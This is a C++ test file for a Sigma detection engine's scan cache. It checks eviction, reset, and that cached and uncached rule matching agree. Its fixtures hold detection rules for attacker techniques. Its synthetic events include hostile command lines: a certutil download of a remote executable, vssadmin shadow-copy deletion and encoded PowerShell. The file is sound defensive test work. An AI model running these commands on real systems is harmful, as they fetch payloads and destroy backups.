@@ -1,0 +1,257 @@
+// The per-thread scan cache (agent/sigma/scan_cache.h): the table itself (lookups, clock
+// eviction, oversized values, reset), and SigmaEngine with and without it on a corpus of
+// repeating events: identical candidates and matches, with evictions and across a rule swap.
+
+#include "agent/sigma/scan_cache.h"
+
+#include <string>
+#include <vector>
+
+#include "absl/strings/str_cat.h"
+#include "gmock/gmock.h"
+#include "gtest/gtest.h"
+#include "tests/sigma/sigma_test_util.h"
+
+namespace otasuke::agent::sigma {
+namespace {
+
+using ::testing::ElementsAre;
+using testing::MustCompile;
+using testing::ProcessEvent;
+
+std::vector<uint32_t> Found(ScanCache& cache, uint32_t field, std::string_view value) {
+  std::span<const uint32_t> hits;
+  if (!cache.Find(field, value, ScanCache::Hash(value), &hits)) return {99999};
+  return std::vector<uint32_t>(hits.begin(), hits.end());
+}
+
+void Store(ScanCache& cache, uint32_t field, std::string_view value, std::vector<uint32_t> hits) {
+  cache.Insert(field, value, ScanCache::Hash(value), hits);
+}
+
+TEST(ScanCache, FindsWhatWasStoredPerFieldAndValue) {
+  ScanCache cache(64);
+  cache.Reset(2);
+  const std::vector<uint32_t> none = {99999};
+  EXPECT_EQ(Found(cache, 0, "cmd.exe /c dir"), none);  // nothing allocated yet
+  Store(cache, 0, "cmd.exe /c dir", {(7u << 4) | 1, (9u << 4) | 3});
+  Store(cache, 1, "c:\\windows\\cmd.exe", {});  // no literal in it: a valid answer too
+  EXPECT_THAT(Found(cache, 0, "cmd.exe /c dir"), ElementsAre((7u << 4) | 1, (9u << 4) | 3));
+  EXPECT_THAT(Found(cache, 1, "c:\\windows\\cmd.exe"), ElementsAre());
+  EXPECT_EQ(Found(cache, 1, "cmd.exe /c dir"), none);  // another field's value
+  EXPECT_EQ(Found(cache, 0, "CMD.EXE /c dir"), none);  // values compare byte for byte
+  EXPECT_EQ(Found(cache, 0, "cmd.exe /c di"), none);
+  EXPECT_EQ(cache.stats(0).inserts, 1u);
+  EXPECT_EQ(cache.stats(0).hits, 1u);
+  EXPECT_EQ(cache.stats(1).hits, 1u);
+}
+
+TEST(ScanCache, ClockEvictionGivesARecentlyUsedEntryASecondChance) {
+  ScanCache cache(ScanCache::kWays);  // one set: every value competes for the same slots
+  cache.Reset(1);
+  for (int i = 0; i < 4; ++i) Store(cache, 0, absl::StrCat("value", i), {uint32_t(i) << 4});
+  EXPECT_THAT(Found(cache, 0, "value0"), ElementsAre(0u));  // value0 is referenced
+  Store(cache, 0, "value4", {4u << 4});                     // the hand passes value0, evicts value1
+  EXPECT_THAT(Found(cache, 0, "value0"), ElementsAre(0u));
+  EXPECT_EQ(Found(cache, 0, "value1"), std::vector<uint32_t>{99999});
+  EXPECT_THAT(Found(cache, 0, "value2"), ElementsAre(2u << 4));
+  EXPECT_THAT(Found(cache, 0, "value4"), ElementsAre(4u << 4));
+  EXPECT_EQ(cache.stats(0).evictions, 1u);
+  EXPECT_EQ(cache.stats(0).inserts, 5u);
+}
+
+TEST(ScanCache, ValuesLargerThanASlotAreCountedAndNotStored) {
+  ScanCache cache(16);
+  cache.Reset(1);
+  const std::string long_value(ScanCache::kSlotBytes + 1, 'a');
+  EXPECT_FALSE(cache.Cacheable(0, long_value));
+  const std::string value(ScanCache::kSlotBytes - 8, 'b');
+  EXPECT_TRUE(cache.Cacheable(0, value));
+  Store(cache, 0, value, {1, 2, 3});  // 12 bytes of hits: over the slot
+  EXPECT_EQ(Found(cache, 0, value), std::vector<uint32_t>{99999});
+  Store(cache, 0, value, {1, 2});  // exactly a slot
+  EXPECT_THAT(Found(cache, 0, value), ElementsAre(1u, 2u));
+  EXPECT_EQ(cache.stats(0).lookups, 2u);
+  EXPECT_EQ(cache.stats(0).uncacheable, 2u);
+}
+
+TEST(ScanCache, ResetForgetsEveryEntryAndZeroEntriesTurnItOff) {
+  ScanCache cache(16);
+  cache.Reset(1);
+  Store(cache, 0, "x", {5});
+  cache.Reset(3);  // a new rule set
+  EXPECT_EQ(Found(cache, 0, "x"), std::vector<uint32_t>{99999});
+  EXPECT_EQ(cache.stats(0).inserts, 0u);
+  EXPECT_EQ(cache.field_count(), 3u);
+  EXPECT_FALSE(ScanCache(0).enabled());
+}
+
+// Process-creation rules whose prefilter literals lie on several fields, anchored and not,
+// with hits answering tests (contains, startswith, endswith, exact, |all, not filters).
+constexpr char kRules[] = R"(
+title: Encoded PowerShell
+id: r-enc
+logsource: {product: windows, category: process_creation}
+detection:
+  img: {Image|endswith: ['\powershell.exe', '\pwsh.exe']}
+  enc: {CommandLine|windash|contains: ['-enc ', '-e ']}
+  condition: img and enc
+---
+title: Shell from Office
+id: r-office
+logsource: {product: windows, category: process_creation}
+detection:
+  parent: {ParentImage|endswith: ['\winword.exe', '\excel.exe', '\outlook.exe', '\powerpnt.exe']}
+  child: {Image|endswith: ['\cmd.exe', '\powershell.exe', '\wscript.exe', '\mshta.exe']}
+  condition: parent and child
+---
+title: Shadow copies deleted
+id: r-vss
+logsource: {product: windows, category: process_creation}
+detection:
+  sel: {CommandLine|re: 'vssadmin(\.exe)? +delete +shadows'}
+  condition: sel
+---
+title: Known bad import hash
+id: r-imphash
+logsource: {product: windows, category: process_creation}
+detection:
+  sel: {Hashes|contains: ['IMPHASH=AAAA1111', 'IMPHASH=BBBB2222']}
+  condition: sel
+---
+title: Certutil download
+id: r-certutil
+logsource: {product: windows, category: process_creation}
+detection:
+  img: {OriginalFileName: CertUtil.exe}
+  cmd: {CommandLine|contains|all: ['urlcache', 'http']}
+  filter: {CommandLine|contains: 'microsoft.com'}
+  condition: img and cmd and not filter
+---
+title: Tool from a user profile
+id: r-profile
+logsource: {product: windows, category: process_creation}
+detection:
+  sel: {Image|startswith: 'C:\Users\', Image|contains: '\Downloads\'}
+  filter: {Image|endswith: '\Teams.exe'}
+  condition: sel and not filter
+)";
+
+// A second set: the same rules after one whose literals sort first on every field, so every
+// literal id moves; cached hits of the first set would name the wrong literals.
+std::string SwappedRules() {
+  return absl::StrCat(R"(
+title: Shifts every literal id
+id: r-shift
+logsource: {product: windows, category: process_creation}
+detection:
+  sel:
+    CommandLine|contains: '!!!'
+    Image|endswith: '!!!'
+    ParentImage|endswith: '!!!'
+    Hashes|contains: '!!!'
+    OriginalFileName: '!!!'
+  condition: sel
+---)",
+                      kRules);
+}
+
+// 600 events cycling through value lists of different lengths, so values repeat with many
+// combinations (as a host's process starts do) and some are unique.
+std::vector<Event> Corpus() {
+  const std::vector<std::string> images = {
+      "C:\\Windows\\System32\\cmd.exe",
+      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+      "C:\\Windows\\System32\\certutil.exe",
+      "C:\\Users\\alice\\Downloads\\tool.exe",
+      "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\Teams.exe",
+      "C:\\Windows\\System32\\mshta.exe",
+      "C:\\Windows\\System32\\vssadmin.exe"};
+  const std::vector<std::string> commands = {
+      "cmd.exe /c whoami",
+      "powershell.exe -nop -enc SQBFAFgA",
+      "powershell.exe /e SQBFAFgA",
+      "certutil.exe -urlcache -f http://10.0.0.1/a.exe a.exe",
+      "certutil.exe -urlcache -f http://download.microsoft.com/a a",
+      "vssadmin.exe delete shadows /all /quiet",
+      "vssadmin list shadows",
+      "tool.exe --run"};
+  const std::vector<std::string> parents = {
+      "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "C:\\Windows\\explorer.exe",
+      "C:\\Windows\\System32\\services.exe", "C:\\Program Files\\Microsoft Office\\EXCEL.EXE",
+      "C:\\Windows\\System32\\svchost.exe"};
+  const std::vector<std::string> hashes = {"SHA256=11,IMPHASH=AAAA1111", "SHA256=22,IMPHASH=CCCC",
+                                           "MD5=33,IMPHASH=BBBB2222"};
+  const std::vector<std::string> names = {"Cmd.Exe", "PowerShell.EXE", "CertUtil.exe", "tool.exe"};
+  std::vector<Event> events;
+  for (size_t i = 0; i < 600; ++i) {
+    std::string command = commands[i % commands.size()];
+    if (i % 5 == 0) absl::StrAppend(&command, " /t", i);  // unique values too
+    events.push_back(ProcessEvent({{"Image", images[i % images.size()]},
+                                   {"CommandLine", command},
+                                   {"ParentImage", parents[i % parents.size()]},
+                                   {"Hashes", hashes[i % hashes.size()]},
+                                   {"OriginalFileName", names[i % names.size()]}}));
+  }
+  return events;
+}
+
+struct Outcome {
+  std::vector<uint32_t> matched;
+  std::vector<uint32_t> candidates;
+  bool operator==(const Outcome&) const = default;
+};
+
+Outcome MatchOnce(SigmaEngine& engine, const CompiledSigmaRules& rules, const Event& e) {
+  Outcome o;
+  engine.Match(rules, e, &o.matched);
+  o.candidates = engine.last_candidates();
+  return o;
+}
+
+uint64_t Sum(const SigmaEngine& engine, const CompiledSigmaRules& rules,
+             uint64_t ScanCacheStats::*counter) {
+  uint64_t sum = 0;
+  for (uint32_t b = 0; b < rules.buckets().size(); ++b) {
+    for (uint32_t f = 0; f < rules.buckets()[b].prefilter.fields().size(); ++f) {
+      sum += engine.scan_cache_stats(b, f).*counter;
+    }
+  }
+  return sum;
+}
+
+TEST(SigmaEngineScanCache, CachedAndUncachedEvaluationAgreeWithEvictionAndARuleSwap) {
+  auto first = MustCompile(kRules);
+  auto second = MustCompile(SwappedRules());
+  ASSERT_NE(first, nullptr);
+  ASSERT_NE(second, nullptr);
+  const std::vector<Event> events = Corpus();
+  SigmaEngine uncached({.scan_cache_entries = 0});
+  SigmaEngine tiny({.scan_cache_entries = 4});  // one set per field: evicts all the time
+  SigmaEngine cached;                           // the default size
+  RuleByRuleEngine oracle;
+  size_t matches = 0;
+  for (const auto* rules : {first.get(), second.get(), first.get()}) {
+    for (int pass = 0; pass < 2; ++pass) {
+      for (size_t i = 0; i < events.size(); ++i) {
+        const Outcome expected = MatchOnce(uncached, *rules, events[i]);
+        EXPECT_EQ(MatchOnce(tiny, *rules, events[i]), expected) << "event " << i;
+        EXPECT_EQ(MatchOnce(cached, *rules, events[i]), expected) << "event " << i;
+        std::vector<uint32_t> by_oracle;
+        oracle.Match(*rules, events[i], &by_oracle);
+        EXPECT_EQ(by_oracle, expected.matched) << "event " << i;
+        matches += expected.matched.size();
+      }
+    }
+    // Counters are per rule set: each swap starts them (and the entries) over.
+    EXPECT_GT(Sum(tiny, *rules, &ScanCacheStats::evictions), 0u);
+    EXPECT_GT(Sum(tiny, *rules, &ScanCacheStats::hits), 0u);
+    EXPECT_GT(Sum(cached, *rules, &ScanCacheStats::hits),
+              Sum(cached, *rules, &ScanCacheStats::lookups) / 2);
+    EXPECT_EQ(Sum(uncached, *rules, &ScanCacheStats::lookups), 0u);
+  }
+  EXPECT_GT(matches, 600u);  // the corpus does exercise the rules
+}
+
+}  // namespace
+}  // namespace otasuke::agent::sigma
